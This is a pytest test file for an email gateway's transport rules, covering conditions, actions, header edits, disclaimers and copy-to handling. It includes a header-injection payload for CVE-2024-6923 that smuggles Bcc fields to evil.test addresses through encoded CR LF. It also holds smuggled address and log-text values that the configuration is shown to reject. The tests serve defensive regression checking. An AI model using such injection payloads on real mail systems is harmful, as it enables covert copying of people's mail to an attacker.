"""Transport rules without a gateway: the conditions, the agent's decisions, the rules transform,
the raw header edits (CVE-2024-6923) and MIME-correct disclaimers."""

from __future__ import annotations

import asyncio
import base64
import email
import email.policy
import sys
from email.message import EmailMessage
from typing import Any

import pytest

from edgeward.config.load import parse_config
from edgeward.config.rules import TransportRule
from edgeward.config.schema import ReceiveConnectorConfig
from edgeward.errors import ConfigError
from edgeward.filters.agents.transport_rules import TransportRules
from edgeward.filters.base import SessionInfo, Stage, StageContext
from edgeward.filters.message import MessageView
from edgeward.filters.rules.conditions import RuleSet
from edgeward.filters.rules.disclaimer import add_disclaimer
from edgeward.filters.rules.groups import FileGroups
from edgeward.filters.rules.headers import prepend_subject, remove_headers, set_header
from edgeward.filters.transforms.base import Accepted
from edgeward.filters.transforms.rules import RuleChanges
from edgeward.filters.verdict import Verdict
from edgeward.headers import parse_headers
from edgeward.scanning.walk import WalkLimits
from edgeward.types import Action, Address, Finding, Outcome, Peer

INBOUND = SessionInfo("s1", Peer("192.0.2.1", 1), ReceiveConnectorConfig(name="internet"), helo="c.test")
OUTBOUND = SessionInfo("s2", Peer("127.0.0.1", 1), ReceiveConnectorConfig(name="relay"),
                       rights=frozenset({"relay"}))  # fmt: skip
USER = SessionInfo("s3", Peer("198.51.100.4", 1), ReceiveConnectorConfig(name="submission"),
                   authenticated="alice")  # fmt: skip
PLAIN = b"From: a@remote.test\r\nSubject: Quarterly numbers\r\nX-Tag: blue\r\n\r\nSee the figures.\r\n"


def rules(*entries: dict[str, Any]) -> tuple[TransportRule, ...]:
    return parse_config({"rules": list(entries)}, source="test").rules


def run(found: tuple[TransportRule, ...], data: bytes = PLAIN, *, info: SessionInfo = INBOUND,
        rcpts: tuple[str, ...] = ("user@example.test",), earlier: tuple[Finding, ...] = (),
        groups: FileGroups | None = None) -> Outcome:  # fmt: skip
    ctx = StageContext(
        Stage.EOD, info, mail_from=Address("a", "remote.test"),
        recipients=tuple(Address(*r.split("@")) for r in rcpts), data=data, headers=parse_headers(data),
        message=MessageView(data, parse_headers(data)), earlier=earlier,
    )  # fmt: skip
    return asyncio.run(TransportRules(found, groups).check(Stage.EOD, ctx))


def matched(outcome: Outcome) -> list[str]:
    return [f.detail for f in outcome.findings if f.name == "RULE_MATCH"]


def rule(name: str, conditions: dict[str, Any], **kw: Any) -> dict[str, Any]:
    return {"name": name, "conditions": conditions, "actions": {"prepend_subject": "[X]"}, **kw}


@pytest.mark.parametrize(
    ("conditions", "hit"),
    [
        ({"from": ["A@remote.test"]}, True),
        ({"from_domains": ["test"]}, True),
        ({"from_domains": ["other.test"]}, False),
        ({"to_domains": ["example.test"]}, True),
        ({"to": ["nobody@example.test"]}, False),
        ({"direction": "inbound"}, True),
        ({"direction": "outbound"}, False),
        ({"headers": [{"name": "x-tag", "contains": ["BLUE"]}]}, True),
        ({"headers": [{"name": "X-Tag", "matches": "^gr(e|a)y$"}]}, False),
        ({"subject_contains": ["quarterly"]}, True),
        ({"subject_matches": "numbers$"}, True),
        ({"subject_or_body_contains": ["figures"]}, True),
        ({"attachment": False}, True),
        ({"attachment": True}, False),
        ({"size_over": "1k"}, False),
        ({"size_over": 10}, True),
        ({"scl_min": 5}, False),  # unrated: no SCL condition holds
        ({"from_groups": ["finance"]}, True),
        ({"to_groups": ["finance"]}, False),
        ({"subject_contains": ["quarterly"], "direction": "outbound"}, False),  # all must hold
    ],
)
def test_each_condition(conditions: dict[str, Any], hit: bool) -> None:
    groups = FileGroups([("finance", "a@remote.test"), ("sales", "@example.test")])
    assert matched(run(rules(rule("r", conditions)), groups=groups)) == (["r"] if hit else [])


def test_direction_follows_the_session() -> None:
    found = rules(rule("out", {"direction": "outbound"}), rule("in", {"direction": "inbound"}))
    assert matched(run(found, info=OUTBOUND)) == ["out"]  # relay rights
    assert matched(run(found, info=USER)) == ["out"]  # authenticated
    assert matched(run(found, info=INBOUND)) == ["in"]


def test_scl_from_the_content_filter_and_exceptions() -> None:
    found = rules(rule("spammy", {"scl_min": 5, "scl_max": 8}, exceptions={"from": ["a@remote.test"]}),
                  rule("mid", {"scl_min": 5}))  # fmt: skip
    outcome = run(found, earlier=(Finding("SCL_6", "content-filter"),))
    assert matched(outcome) == ["mid"]  # the exception held for "spammy"
    assert matched(run(found, earlier=(Finding("SCL_2", "content-filter"),))) == []


def attached(content: bytes, maintype: str, subtype: str, filename: str) -> bytes:
    msg = EmailMessage()
    msg["From"], msg["Subject"] = "a@remote.test", "files"
    msg.set_content("see attached")
    msg.add_attachment(content, maintype=maintype, subtype=subtype, filename=filename)
    return msg.as_bytes(policy=email.policy.SMTP)


def test_attachments_by_name_and_true_type() -> None:
    pdf = b"%PDF-1.4\n%\xe2\xe3\xcf\xd3\n1 0 obj\n<<>>\nendobj\n"
    data = attached(pdf, "application", "octet-stream", "Report.PDF")
    found = rules(
        rule("named", {"attachment_names": ["*.pdf"]}),
        rule("typed", {"attachment_types": ["application/pdf"]}),
        rule("any", {"attachment": True}),
        rule("zip", {"attachment_names": ["*.zip"]}),
    )
    assert matched(run(found, data)) == ["named", "typed", "any"]


def test_attachment_types_read_the_text_subtype_of_an_attachment_the_walk_typed_coarsely() -> None:
    page = b"<html><body><form action='x'>password</form></body></html>\n"
    data = attached(page, "text", "plain", "invoice.txt")
    view = MessageView(data, parse_headers(data), WalkLimits(text_subtypes=False))
    assert view.walk.entries[-1].item.coarse
    found = rules(rule("html", {"attachment_types": ["text/html"]}))
    ctx = StageContext(Stage.EOD, INBOUND, mail_from=Address("a", "remote.test"),
                       recipients=(Address("user", "example.test"),), data=data, headers=view.headers,
                       message=view)  # fmt: skip
    assert matched(asyncio.run(TransportRules(found).check(Stage.EOD, ctx))) == ["html"]
    assert not RuleSet(rules(rule("named", {"attachment_names": ["*.txt"]}))).reads_types


def test_order_stop_and_deciding_actions() -> None:
    found = rules(
        {"name": "late", "priority": 5, "actions": {"set_scl": 4}},
        {"name": "early", "priority": 1, "actions": {"quarantine": True}, "stop": False},
        {"name": "stopper", "priority": 2, "actions": {"prepend_subject": "[S]"}, "stop": True},
    )
    outcome = run(found)
    assert matched(outcome) == ["early", "stopper"] and outcome.action is Action.QUARANTINE
    scl = run(rules({"name": "s", "actions": {"set_scl": 4}}))
    assert [f.name for f in scl.findings] == ["RULE_MATCH", "RULE_SCL_4"] and scl.action is Action.CONTINUE
    refused = run(rules({"name": "r", "actions": {"reject": {}}},
                        {"name": "after", "actions": {"quarantine": True}}))  # fmt: skip
    assert refused.action is Action.REJECT and matched(refused) == ["r"]
    assert str(refused.reply) == "550 5.7.1 Delivery not authorized, message refused"
    tempfail = {"code": 451, "enhanced": "4.7.1", "text": "later"}
    later = run(rules({"name": "t", "actions": {"reject": tempfail}}))
    assert later.action is Action.TEMPFAIL
    assert run(rules({"name": "d", "actions": {"disconnect": True}})).action is Action.DISCONNECT


def test_a_failing_group_source_tempfails() -> None:
    class Down:
        async def member(self, group: str, address: Address) -> bool:
            raise OSError("directory replica unreadable")

    outcome = asyncio.run(TransportRules(rules(rule("g", {"to_groups": ["x"]})), Down()).check(
        Stage.EOD, StageContext(Stage.EOD, INBOUND, recipients=(Address("u", "example.test"),), data=PLAIN,
                                message=MessageView(PLAIN, parse_headers(PLAIN)))))  # fmt: skip
    assert outcome.action is Action.TEMPFAIL and outcome.findings[0].name == "RULE_GROUP_TEMPERROR"


HOLD = {"quarantine": True}


@pytest.mark.parametrize(
    ("entry", "error"),
    [
        ({"name": "a", "conditions": {"sender": ["x@y"]}, "actions": HOLD}, "unknown condition 'sender'"),
        ({"name": "a", "conditions": {"subject_matches": "(a"}, "actions": HOLD}, "invalid regular"),
        (
            {"name": "a", "conditions": {"subject_matches": "(a{1,1000}){1,1000}"}, "actions": HOLD},
            "regular expression",
        ),
        ({"name": "a", "actions": {"bounce": True}}, "unknown action 'bounce'"),
        ({"name": "a", "actions": {}}, "has no action"),
        ({"name": "a", "actions": {"reject": {}, "quarantine": True}}, "choose one of"),
        ({"name": "a", "actions": {"reject": {"code": 550, "enhanced": "4.7.1"}}}, "disagree in class"),
        ({"name": "a", "actions": {"add_headers": {"Bad Name": "x"}}}, "invalid header field name"),
    ],
)
def test_configuration_errors_are_clear(entry: dict[str, Any], error: str) -> None:
    with pytest.raises(ConfigError, match=error):
        parse_config({"rules": [entry]}, source="test")
    with pytest.raises(ConfigError, match="duplicate rule names"):
        parse_config({"rules": [{"name": "x", "actions": {"quarantine": True}}] * 2}, source="test")


# -- the transform ------------------------------------------------------------------------------


def accepted(found: tuple[TransportRule, ...], names: list[str], action: Action = Action.CONTINUE
             ) -> Accepted:  # fmt: skip
    matches = tuple(Finding("RULE_MATCH", "transport-rules", n) for n in names)
    verdict = Verdict(action, None, matches, (), 0, "")
    return Accepted("Q1", INBOUND, "mx.test", (Address("ceo", "example.test"),), verdict)


def test_transform_changes_headers_and_envelope() -> None:
    found = rules({"name": "tag", "actions": {"prepend_subject": "[EXT]", "add_headers": {"X-Tag": "checked"},
                                               "remove_headers": ["x-tag"], "bcc": ["legal@example.test"]}},
                  {"name": "move", "actions": {"redirect_to": ["desk@example.test"]}})  # fmt: skip
    changes = RuleChanges(found)
    acc = accepted(found, ["tag"])
    out = changes.apply(PLAIN, acc)
    head = parse_headers(out)
    assert head.get("Subject") == "[EXT] Quarterly numbers" and head.get_all("X-Tag") == ["checked"]
    assert [str(a) for a in changes.recipients(acc)] == ["ceo@example.test", "legal@example.test"]
    assert [str(a) for a in changes.recipients(accepted(found, ["move", "tag"]))] == [
        "desk@example.test",
        "legal@example.test",
    ]
    assert changes.apply(PLAIN, accepted(found, ["tag"], Action.DISCARD)) == PLAIN
    assert RuleChanges(found, observe_only=True).apply(PLAIN, acc) == PLAIN


# -- header edits and CVE-2024-6923 -------------------------------------------------------------

# A long Subject whose encoded word decodes to CR LF "Bcc: ..." CR LF: Python 3.11.7's generator,
# refolding it under policy.SMTP, writes the CR LF out and so adds a Bcc field and ends the header.
EXPLOIT = (b"From: =?utf-8?q?" + b"A" * 60 + b"=0D=0ABcc:_spy@evil.test?= <a@remote.test>\r\n"
           b"Subject: " + b"x" * 70 + b" =?utf-8?q?hello=0D=0ABcc:_victim@evil.test=0D=0A?=\r\n"
           b"Content-Type: text/plain; charset=utf-8\r\n\r\nbody\r\n")  # fmt: skip


def test_the_exploit_header_really_injects_through_the_stdlib_generator() -> None:
    # The From field's encoded CR LF makes the stdlib raise (a crash, had we used it); the
    # Subject alone goes through and is written out with the injected Bcc field.
    with pytest.raises(ValueError, match="CR or LF"):
        email.message_from_bytes(EXPLOIT, policy=email.policy.SMTP).as_bytes()
    subject_only = EXPLOIT.split(b"\r\n", 1)[1]
    out = email.message_from_bytes(subject_only, policy=email.policy.SMTP).as_bytes()
    if sys.version_info >= (3, 11, 10):
        pytest.skip("this interpreter has the CVE-2024-6923 fix")
    assert b"\r\nBcc: victim@evil.test\r\n" in out  # the hazard the raw edits avoid


def test_rule_edits_never_inject_a_header() -> None:
    actions = {"prepend_subject": "[Extérieur]", "add_headers": {"X-Note": "vérifié"},
               "disclaimer": {"text": "Confidential"}}  # fmt: skip
    found = rules({"name": "all", "actions": actions})
    out = RuleChanges(found).apply(EXPLOIT, accepted(found, ["all"]))
    fields = [n.lower() for n, _ in parse_headers(out).fields]
    assert "bcc" not in fields
    assert fields.count("subject") == 1 and fields.count("from") == 1
    assert EXPLOIT.split(b"\r\n")[0] in out  # the From bytes left as they came
    assert b"=0D=0ABcc:_victim@evil.test=0D=0A?=" in out
    assert b"Confidential" in out
    assert all(len(line) <= 998 for line in out.split(b"\r\n"))


def test_subject_prefix_forms() -> None:
    assert parse_headers(prepend_subject(b"From: a\r\n\r\nx", "[T]")).get("Subject") == "[T]"
    folded = prepend_subject(b"Subject:\r\n long one\r\n\r\nx", "[T]")
    assert parse_headers(folded).get("Subject") == "[T] long one"
    once = prepend_subject(PLAIN, "[T]")
    assert prepend_subject(once, "[T]") == once
    long = b"Subject: " + b"y" * 990 + b"\r\n\r\nx"
    assert all(len(line) <= 998 for line in prepend_subject(long, "[T]").split(b"\r\n"))
    encoded = prepend_subject(PLAIN, "[Extérieur]")
    msg = email.message_from_bytes(encoded, policy=email.policy.default)
    assert msg["Subject"] == "[Extérieur] Quarterly numbers"
    assert parse_headers(remove_headers(set_header(PLAIN, "X-Tag", "red"), ("x-tag",))).get_all("X-Tag") == []


# -- disclaimers --------------------------------------------------------------------------------

JAPANESE = "<html><body><p>こんにちは</p></body></html>"


def alternative(plain_charset: str, html_charset: str, html_text: str = JAPANESE) -> bytes:
    """A quoted-printable text/plain and a base64 text/html alternative in the charsets given."""
    head = ("From: a@example.test\r\nSubject: s\r\nMIME-Version: 1.0\r\n"
            'Content-Type: multipart/alternative; boundary="b1"\r\n\r\n')  # fmt: skip
    plain = (f"--b1\r\nContent-Type: text/plain; charset={plain_charset}\r\n"
             "Content-Transfer-Encoding: quoted-printable\r\n\r\nCaf=E9 ici\r\n")  # fmt: skip
    html = (f"--b1\r\nContent-Type: text/html; charset={html_charset}\r\n"
            "Content-Transfer-Encoding: base64\r\n\r\n")  # fmt: skip
    encoded = base64.encodebytes(html_text.encode(html_charset)).replace(b"\n", b"\r\n")
    return (head + plain + html).encode() + encoded + b"--b1--\r\n"


def texts(data: bytes) -> dict[str, tuple[str, str]]:
    msg = email.message_from_bytes(data, policy=email.policy.default)
    return {p.get_content_type(): (p.get_content_charset() or "", p.get_content())
            for p in msg.walk() if p.get_content_maintype() == "text"}  # fmt: skip


def test_disclaimer_in_both_alternatives_in_their_charsets() -> None:
    result = add_disclaimer(alternative("iso-8859-1", "shift_jis"), "Vertraulich – 機密 <b>")
    got = texts(result.data)
    assert result.parts == 2
    # Latin-1 cannot hold the Japanese: that part is now UTF-8; Shift_JIS holds all of it... but not "–".
    assert got["text/plain"] == ("utf-8", "Café ici\r\n\r\nVertraulich – 機密 <b>\r\n")
    assert got["text/html"][0] == "utf-8" and "<p>Vertraulich – 機密 &lt;b&gt;</p>" in got["text/html"][1]
    assert got["text/html"][1].index("機密") < got["text/html"][1].index("</body>")
    kept = texts(add_disclaimer(alternative("iso-8859-1", "shift_jis"), "機密").data)
    assert kept["text/plain"][0] == "utf-8" and kept["text/html"][0] == "shift_jis"
    latin = texts(add_disclaimer(alternative("iso-8859-1", "utf-8", "<p>x</p>"), "Vertraulich für Sie").data)
    assert latin["text/plain"] == ("iso-8859-1", "Café ici\r\n\r\nVertraulich für Sie\r\n")
    assert latin["text/html"][1].endswith("<p>Vertraulich für Sie</p>\r\n")  # no </body>: appended


def test_rule_markup_and_plain_root() -> None:
    result = add_disclaimer(PLAIN, "Confidential", "<p><b>Confidential</b></p>")
    assert result.parts == 1
    assert texts(result.data)["text/plain"][1].endswith("figures.\r\n\r\nConfidential\r\n")
    html = b"From: a@b\r\nContent-Type: text/html\r\n\r\n<html><BODY>x</BODY></html>"
    markup = "<p><b>Confidential</b></p>"
    once = add_disclaimer(html, "Confidential", markup).data
    assert b"<p><b>Confidential</b></p>\r\n</BODY>" in once
    assert add_disclaimer(once, "Confidential", markup).parts == 0


def test_not_twice_on_a_reply_quoting_ours() -> None:
    first = add_disclaimer(PLAIN, "This e-mail is confidential and meant for its addressee only.")
    quoted = first.data.decode().replace("See the figures.\r\n\r\nThis e-mail is confidential and meant\r\n",
                                         "")  # fmt: skip
    reply = (
        b"From: b@remote.test\r\nSubject: Re: x\r\n\r\nThanks!\r\n\r\n> See the figures.\r\n>\r\n"
        b"> This e-mail is confidential and\r\n> meant for its addressee only.\r\n"
    )
    assert quoted
    assert add_disclaimer(reply, "This e-mail is confidential and meant for its addressee only.").parts == 0
    found = rules({"name": "d", "actions": {"disclaimer": {"text": "Confidential"}}})
    changes, acc = RuleChanges(found), accepted(found, ["d"])
    once = changes.apply(PLAIN, acc)
    assert changes.apply(once, acc) == once and once.count(b"Confidential\r\n") == 1
    assert parse_headers(once).get("X-Edgeward-Disclaimer") == "d"


SIGNED = (b"From: a@example.test\r\nSubject: signed\r\nMIME-Version: 1.0\r\n"
          b'Content-Type: multipart/signed; protocol="application/pkcs7-signature"; micalg=sha-256;\r\n'
          b' boundary="s1"\r\n\r\n'
          b"--s1\r\nContent-Type: text/plain\r\n\r\nsigned text\r\n--s1\r\n"
          b"Content-Type: application/pkcs7-signature; name=smime.p7s\r\n"
          b"Content-Transfer-Encoding: base64\r\n\r\n"
          b"MIIBAAYJKoZIhvcNAQcCoIIB\r\n--s1--\r\n")  # fmt: skip
PGP = b"From: a@example.test\r\n\r\n-----BEGIN PGP SIGNED MESSAGE-----\r\nHash: SHA256\r\n\r\nhi\r\n"


def test_signed_mail_is_never_changed_inside() -> None:
    assert add_disclaimer(SIGNED, "Confidential", signed="skip").data == SIGNED
    assert add_disclaimer(PGP, "Confidential", signed="skip").data == PGP
    wrapped = add_disclaimer(SIGNED, "Confidential").data
    msg = email.message_from_bytes(wrapped, policy=email.policy.default)
    first, attached = msg.get_payload()
    assert msg["Subject"] == "signed" and msg.get_content_type() == "multipart/mixed"
    assert first.get_content().strip() == "Confidential"
    assert attached.get_content_type() == "message/rfc822"
    assert SIGNED in wrapped  # the signed original, byte for byte


def test_the_transaction_keeps_dsn_parameters_of_kept_recipients() -> None:
    from edgeward.server.receipt import Transaction
    from edgeward.smtp import events as ev

    tx = Transaction(ev.MailFrom(Address("a", "remote.test")))
    ceo, legal = Address("ceo", "example.test"), Address("legal", "example.test")
    tx.rcpts, tx.rcpt_params = [ceo], [{"NOTIFY": "FAILURE"}]
    assert not tx.replace_recipients((ceo,))
    assert tx.replace_recipients((ceo, legal))
    assert tx.rcpts == [ceo, legal] and tx.rcpt_params == [{"NOTIFY": "FAILURE"}, {}]


# -- LogEventText and CopyTo ------------------------------------------------------------------


def test_log_event_text_is_logged_and_tracked_as_a_finding(caplog: pytest.LogCaptureFixture) -> None:
    found = rules({"name": "audit", "conditions": {"subject_contains": ["quarterly"]},
                   "actions": {"log_event_text": "Quarterly figures left the company"}})  # fmt: skip
    with caplog.at_level("INFO", logger="edgeward.rules"):
        outcome = run(found)
    assert outcome.action is Action.CONTINUE
    assert [(f.name, f.detail) for f in outcome.findings] == [
        ("RULE_MATCH", "audit"),
        ("RULE_LOG_EVENT", "audit: Quarterly figures left the company"),
    ]
    assert any("rule audit: Quarterly figures left the company" in r.getMessage() for r in caplog.records)
    # A rule with only this action changes nothing in the message.
    assert RuleChanges(found).apply(PLAIN, accepted(found, ["audit"])) == PLAIN


def test_copy_to_adds_the_recipient_and_names_it_in_cc() -> None:
    found = rules({"name": "copy", "actions": {"copy_to": ["Records@Example.test"]}})
    outcome = run(found)
    assert ("RULE_COPY_TO", "copy: records@example.test") in [(f.name, f.detail) for f in outcome.findings]
    changes = RuleChanges(found)
    acc = accepted(found, ["copy"])
    assert [str(a) for a in changes.recipients(acc)] == ["ceo@example.test", "records@example.test"]
    out = changes.apply(PLAIN, acc)
    assert parse_headers(out).get_all("Cc") == ["records@example.test"]
    # An existing Cc keeps its bytes and gets the copy on a continuation line, once.
    cc = b"Cc: Bob <bob@remote.test>,\r\n carol@remote.test"
    out = changes.apply(PLAIN.replace(b"X-Tag: blue\r\n", cc + b"\r\nX-Tag: blue\r\n"), acc)
    assert cc + b",\r\n records@example.test\r\nX-Tag: blue\r\n" in out
    assert changes.apply(out, acc) == out
    parsed = email.message_from_bytes(out, policy=email.policy.default)
    assert [a.addr_spec for a in parsed["Cc"].addresses] == ["bob@remote.test", "carol@remote.test",
                                                               "records@example.test"]  # fmt: skip


def test_copy_to_takes_only_plain_addresses() -> None:
    with pytest.raises(ConfigError, match="not a plain address"):
        rules({"name": "bad", "actions": {"copy_to": ["x,<spy@evil.test>"]}})
    with pytest.raises(ConfigError, match="control characters"):
        rules({"name": "bad", "actions": {"log_event_text": "line\r\nX-Injected: 1"}})
